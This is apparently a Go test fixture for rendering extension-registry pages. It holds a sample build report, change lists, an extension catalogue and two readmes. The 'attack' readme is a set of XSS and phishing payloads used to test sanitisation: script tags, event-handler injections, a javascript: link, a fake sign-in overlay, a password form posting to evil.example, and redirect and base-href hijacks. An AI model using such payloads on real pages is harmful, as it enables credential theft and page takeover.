package pagestest

import "galbuild/render/pages"

// report is a build report.
var report = pages.Report{Built: "2026-11-29", Groups: []pages.ReportGroup{
	{Rule: "minimumAge", Entries: []pages.ReportEntry{{Subject: "globex.beta@1.3.0", Reason: "The version is 2 days old, and must be 7 days old.", Until: "2026-12-04"}}},
	{Rule: "deny", Entries: []pages.ReportEntry{
		{Subject: "mallory.miner@1.0.0", Reason: "The publisher mallory is listed in line 12."},
		{Subject: "acme.notes@1.4.0@linux-armhf", Reason: "acme.notes@1.4.0 is listed in line 14."},
	}},
}}

// days are what changed.
var days = []pages.Day{
	{
		Date:    "2026-11-28",
		Updated: []pages.Change{{ID: "globex.rust", Name: "Rust Analyser", Versions: []string{"1.13.0"}}, {ID: "Acme.notes", Name: "Acme Notes", Versions: []string{"2.4.0", "2.3.0"}}},
		Blocked: []pages.Change{{ID: "mallory.miner", Name: "Miner", Versions: []string{"1.0.0"}, Reason: "It mines.", Gone: true}},
	},
	{Date: "2026-11-20", Added: []pages.Change{{ID: "hooli.nucleus", Name: "Nucleus", Versions: []string{"1.7.0"}}}},
	{Date: "2026-11-19"},
	{Date: "2026-11-18", Removed: []pages.Change{{ID: "initech.old", Name: "initech.old", Gone: true}}},
}

// others are extensions, one on each line: id, name, description, category and tags.
const others = `
acme.go-snippets|Go Snippets|Snippets for Go that compile.|Snippets|go snippets
acme.log-language|Log Language|Colours log files, and folds stack traces.|Programming Languages|log
acme.midnight|Midnight Theme|A dark theme with restrained colours for long evenings.|Themes|theme dark
acme.starter-pack|Starter Pack|What a new colleague needs on the first day.|Extension Packs|pack
acme.system-probe|System Probe|Shows the load of the machine in the status bar.|Other|status
acme.word-count|Word Count|Counts words as you type.|Other|markdown words
globex.terraform|Terraform Tools|Completion, formatting and checks for Terraform files.|Programming Languages|terraform hcl
globex.rust|Rust Analyser|Completion and refactoring for Rust.|Programming Languages|rust
globex.beta|Preview Browser|Opens pages in a panel next to their source.|Other|html preview
initech.reports|Reports|Turns test results into reports that managers read.|Testing|test report
initech.tps|TPS Cover Sheets|Adds the new cover sheets. You did get the memo.|Other|tps
initech.python|Python Environments|Finds and switches between environments.|Programming Languages|python venv
umbrella.git-graph|Git Graph|The history of a repository as a graph, with what each branch contains.|SCM Providers|git
umbrella.docker|Containers|Builds, runs and inspects containers.|Other|docker containers
umbrella.yaml|YAML Schemas|Checks YAML files against their schemas.|Linters|yaml schema
hooli.nucleus|Nucleus|Compression, middle out.|Other|compression
hooli.prettier|Format on Save|One way to format code, and nothing to decide.|Formatters|format
hooli.latex|LaTeX Workshop|Writes papers, with a preview.|Programming Languages|latex
`

const fence = "```"

// notes is a readme with what most readmes have.
const notes = `<h1 align="center">Acme Notes</h1>

[![Build](https://img.shields.io/build.svg)](https://ci.example/build) ![licence](https://img.shields.io/mit.svg)

Keeps notes next to the code they are about. A note is attached to a **symbol**, not to a line, so it
stays where it belongs when the code around it changes.

![The list of notes](images/list.png)

> [!NOTE]
> Notes are plain Markdown files in the folder ` + "`.notes`" + `, so they can be committed.

## Use

1. Put the cursor on a symbol and press <kbd>Ctrl</kbd>+<kbd>Alt</kbd>+<kbd>N</kbd>.
2. Write.
3. Press <kbd>Esc</kbd>.

| Command | Key | What it does |
|:--|:-:|--:|
| Notes: Add | Ctrl+Alt+N | adds a note to the symbol under the cursor |
| Notes: Find | Ctrl+Alt+F | finds notes by their text |

### Settings

` + fence + `jsonc
{
  // where notes are kept
  "notes.folder": ".notes",
  "notes.maximum": 1000, "notes.commit": true
}
` + fence + `

` + fence + `go
// Find returns the notes that contain a text, the newest first.
func (s *Store) Find(ctx context.Context, text string) ([]Note, error) {
	if text == "" {
		return nil, errors.New("find: the text is empty")
	}
	return s.index.Search(ctx, text, 100)
}
` + fence + `

## Roadmap

- [x] Notes that follow symbols
- [ ] Notes for folders
- ~~Notes for commits~~

> [!WARNING]
> Version 3 will change the format of the folder.

## Licence

MIT. See also https://acme.example/notes.
`

// attack is a readme that tries what it can.
const attack = `# Install <script>document.title = 'acted'</script>

<div style="position:fixed;inset:0;background:#fff;z-index:99">Sign in to continue</div></div></div></article></main>

<img src=https://evil.example/track.gif onerror="document.title='acted'"><iframe src=https://evil.example></iframe>
<a href="javascript:document.title='acted'">click</a> <a href="https://evil.example/" onclick="document.title='acted'">go</a>
<svg onload="document.title='acted'"></svg><form action=https://evil.example><input name=password><button>Sign in</button></form>
<style>body { display: none } @import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/y.css>
<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example/>

###### Deep

<li>alone</li><summary>alone</summary><dd>alone</dd><table><tr><th></th></table><h2></h2><ul>text</ul>

| ` + "WideWideWideWideWideWideWideWideWideWideWideWide | WideWideWideWideWideWideWideWideWideWideWideWide | WideWideWideWideWideWide" + ` |
|---|---|---|
| a |

` + "`" + "unbrokenunbrokenunbrokenunbrokenunbrokenunbrokenunbrokenunbrokenunbrokenunbrokenunbroken" + "`" + `

    a line of code that is much wider than any telephone, and than most screens, and goes on and on and on and on and on and on
<plaintext>
`
